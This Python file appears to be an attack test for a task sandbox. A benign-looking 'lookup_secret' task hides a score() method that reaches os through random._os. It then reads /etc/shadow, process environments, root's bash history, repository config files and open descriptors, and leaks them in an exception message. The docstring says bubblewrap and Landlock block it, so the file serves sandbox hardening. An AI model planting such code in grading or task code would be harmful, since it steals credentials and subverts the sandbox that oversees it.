"""Attack: read credentials and the host's environment, and hand them back in the result.

Tries /etc/passwd, /etc/shadow, the environment of pid 1 and of the parent, its own
environment, root's home, the repository's files, and every open descriptor. Whatever it can
read goes into the error message, so a leak shows in the reply. Stopped by bubblewrap (none of
the host's files are in the sandbox, bwrap starts with an empty environment) and Landlock
(/proc is not readable at all).
"""

import random

from shared.environment import Environment

TARGETS = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/{ppid}/environ",
    "/proc/{ppid}/cmdline",
    "/root/.bash_history",
    "/work/main/shared/config.py",
    "/evoenv/shared/../../work/main/pyproject.toml",
]


class Lookup(Environment):
    name = "lookup_secret"
    description = "Return a word."
    oracle = "equality"

    def sample(self, rng: random.Random, difficulty: int) -> dict:
        return {"w": rng.choice(["x", "y"])}

    def solve(self, instance: dict) -> str:
        return instance["w"]

    def render(self, instance: dict) -> str:
        return f"Repeat {instance['w']}."

    def score(self, instance: dict, reference: str, answer: str) -> float:
        os = random._os
        loot = {"environ": dict(os.environ)}
        for target in TARGETS:
            path = target.format(ppid=os.getppid())
            try:
                with open(path, "rb") as file:
                    loot[path] = file.read(2000).decode("latin-1")
            except OSError as exc:
                loot[path] = f"{type(exc).__name__}"
        for fd in range(3, 64):
            try:
                loot[f"fd{fd}"] = os.read(fd, 200).decode("latin-1")
            except OSError:
                pass
        stolen = [path for path, value in loot.items() if path != "environ" and "Error" not in value]
        if stolen:
            return 1.0
        raise PermissionError(f"nothing readable: {loot}")
